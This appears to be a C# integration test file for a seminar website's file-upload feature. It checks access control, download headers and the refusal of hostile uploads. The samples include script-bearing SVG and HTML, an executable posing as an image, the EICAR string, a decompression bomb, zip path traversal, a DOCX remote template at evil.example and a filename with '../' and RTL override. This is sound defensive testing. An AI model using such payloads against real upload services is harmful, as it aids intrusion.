using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.RegularExpressions;
using Klynge.Access;
using Klynge.Storage;
using Klynge.Web.Routes;
using Klynge.Web.Tests.Shell;
using Xunit;

namespace Klynge.Web.Tests.Pages.Gatherings.After;

/// <summary>Files are taken by what is in them, refused in clear words, and given back so that nothing in them runs. One site for all.</summary>
public sealed class Sharing_files(Sharing_files.Place place) : IClassFixture<Sharing_files.Place>
{
    public sealed class Place : IAsyncLifetime
    {
        internal A_seminar Seminar { get; private set; } = null!;

        internal Somebody Adviser { get; private set; } = null!;

        internal string Own { get; private set; } = "";

        public async ValueTask InitializeAsync()
        {
            Seminar = await A_seminar.Open();
            Adviser = await Somebody.In(Seminar.Site, Role.Adviser);
            Own = await Seminar.Guest("ola@example.no", "Ola Eksempel");
        }

        public ValueTask DisposeAsync()
        {
            Adviser.Dispose();
            return Seminar.DisposeAsync();
        }
    }

    static CancellationToken Cancel => TestContext.Current.CancellationToken;

    string Page => $"/nb/arrangement/{place.Seminar.Id}";

    static byte[] Pdf(string text) => Encoding.ASCII.GetBytes($"%PDF-1.7\n% {text}\n%%EOF\n");

    async Task<HttpResponseMessage> Send(byte[] content, string name, string audience = "guests", string title = "")
    {
        using var form = new MultipartFormDataContent
        {
            { new StringContent(await place.Adviser.Token(Page + "/materiell")), "token" }, { new StringContent(title), "title" }, { new StringContent(audience), "audience" },
        };
        var file = new ByteArrayContent(content);
        file.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        form.Add(file, "file", name);
        return await place.Adviser.Browser.PostAsync(DoorRoutes.AddMaterial.Address(Language.Nb, place.Seminar.Id.ToString()), form, Cancel);
    }

    async Task<string> Refusal(byte[] content, string name)
    {
        using var answer = await Send(content, name);
        var page = WebUtility.HtmlDecode(await answer.Content.ReadAsStringAsync(Cancel));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, answer.StatusCode);
        return Regex.Match(page, "id=\"file-error\">.*?</span>(.*?)</p>", RegexOptions.Singleline).Groups[1].Value.Trim();
    }

    static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
                entry.Write(content);
            }
        return memory.ToArray();
    }

    [Fact]
    public async Task A_file_for_everyone_is_on_the_open_page_and_is_saved_never_shown()
    {
        Assert.Equal(HttpStatusCode.SeeOther, (await Send(Pdf("for everyone"), "../../åpning <b>\u202Egpj.pdf", "everyone", "Åpningen")).StatusCode);
        using var anyone = new Somebody(place.Seminar.Site);
        var address = Regex.Match(await anyone.Page(Page), "href=\"(/materials/[^\"]+)\" download>Åpningen<").Groups[1].Value;
        using var file = await anyone.Browser.GetAsync(address, Cancel);
        Assert.Equal(Pdf("for everyone"), await file.Content.ReadAsByteArrayAsync(Cancel));
        Assert.Equal(("application/pdf", "attachment"), (file.Content.Headers.ContentType!.MediaType, file.Content.Headers.ContentDisposition!.DispositionType));
        Assert.Equal("åpning bgpj.pdf", file.Content.Headers.ContentDisposition.FileNameStar);
        Assert.Equal("nosniff", file.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("default-src 'none'; sandbox", file.Headers.GetValues("Content-Security-Policy").Single());
    }

    [Fact]
    public async Task A_file_for_guests_is_on_their_own_page_and_hidden_from_others()
    {
        await Send(Pdf("for guests"), "lysark.pdf", title: "Lysarkene");
        using var guest = new Somebody(place.Seminar.Site);
        Assert.DoesNotContain("Lysarkene", await guest.Page(Page), StringComparison.Ordinal);
        var address = Regex.Match(await guest.Page(place.Own), "href=\"(/guest-materials/[^\"]+)\" download>Lysarkene<").Groups[1].Value;
        Assert.Equal(Pdf("for guests"), await guest.Browser.GetByteArrayAsync(address, Cancel));

        var file = address.Split('/')[^1];
        Assert.Equal(HttpStatusCode.NotFound, (await guest.Browser.GetAsync($"/materials/{place.Seminar.Id}/{file}", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await guest.Browser.GetAsync($"/guest-materials/{place.Seminar.Id}/{new string('a', 43)}/{file}", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await guest.Browser.GetAsync($"/materials/{place.Seminar.Id}/{Guid.NewGuid()}", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await place.Adviser.Browser.GetAsync($"/materials/{place.Seminar.Id}/{file}", Cancel)).StatusCode);
    }

    [Fact]
    public async Task What_is_removed_is_gone_at_once_and_comes_back_by_undo()
    {
        await Send(Pdf("to be removed"), "fjernes.pdf", "everyone", "Fjernes");
        using var anyone = new Somebody(place.Seminar.Site);
        var address = Regex.Match(await anyone.Page(Page), "href=\"(/materials/[^\"]+)\" download>Fjernes<").Groups[1].Value;
        await place.Adviser.Send(DoorRoutes.RemoveMaterial, [place.Seminar.Id.ToString()], ("material", address.Split('/')[^1]));
        Assert.Equal(HttpStatusCode.NotFound, (await anyone.Browser.GetAsync(address, Cancel)).StatusCode);
        await place.Adviser.Send(DoorRoutes.RestoreMaterial, [place.Seminar.Id.ToString()], ("material", address.Split('/')[^1]));
        Assert.Equal(HttpStatusCode.OK, (await anyone.Browser.GetAsync(address, Cancel)).StatusCode);
    }

    public static TheoryData<string, string> Hostile => new()
    {
        { "nothing", "Filen er tom." },
        { "script in a drawing", "ikke av et slag" },
        { "a page", "ikke av et slag" },
        { "a program called a picture", "ikke av et slag" },
        { "a virus", "virus" },
        { "a picture of thirty thousand points a side", "for stort" },
        { "a document that leads outside itself", "trygg å åpne" },
        { "a document that unpacks to far more", "trygg å åpne" },
        { "a document that fetches from elsewhere", "makroer" },
        { "half a document", "kan ikke leses" },
        { "two files in one", "trygg å åpne" },
    };

    [Theory, MemberData(nameof(Hostile))]
    public async Task What_is_dangerous_or_broken_is_refused_in_clear_words(string what, string says)
    {
        var contentTypes = ("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"));
        var document = ("word/document.xml", Encoding.UTF8.GetBytes("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"));
        byte[] content = what switch
        {
            "nothing" => [],
            "script in a drawing" => Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
            "a page" => Encoding.UTF8.GetBytes("<!doctype html><script>alert(1)</script>"),
            "a program called a picture" => [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00],
            "a virus" => Encoding.ASCII.GetBytes(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
            "a picture of thirty thousand points a side" => Png(30_000),
            "a document that leads outside itself" => Zip(contentTypes, document, ("../../evil.xml", [1])),
            "a document that unpacks to far more" => Zip(contentTypes, document, ("word/media/big.bin", new byte[300_000_000])),
            "a document that fetches from elsewhere" => Zip(contentTypes, document, ("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>"))),
            "half a document" => Encoding.ASCII.GetBytes("%PDF-1.7\nbegun and never ended"),
            "two files in one" => [.. Pdf("two faces"), .. Zip(("x.txt", [1]))],
            _ => throw new ArgumentOutOfRangeException(nameof(what), what, "Not made."),
        };
        Assert.Contains(says, await Refusal(content, new string('a', 300) + ".png"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task One_that_is_too_large_is_refused_and_a_form_without_a_file_says_so()
    {
        Assert.Contains("Den kan være opptil 25 MB", await Refusal(new byte[(25 * 1024 * 1024) + 1], "stor.txt"), StringComparison.Ordinal);
        using var none = await place.Adviser.Send(DoorRoutes.AddMaterial, [place.Seminar.Id.ToString()], ("title", "Uten fil"), ("audience", "guests"));
        Assert.Contains("Velg en fil.", WebUtility.HtmlDecode(await none.Content.ReadAsStringAsync(Cancel)), StringComparison.Ordinal);
    }

    // The header says how large it is; the picture itself need not be there to be refused.
    static byte[] Png(int side)
    {
        byte[] size = [(byte)(side >> 24), (byte)(side >> 16), (byte)(side >> 8), (byte)side];
        return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, .. size, .. size, 8, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82];
    }
}
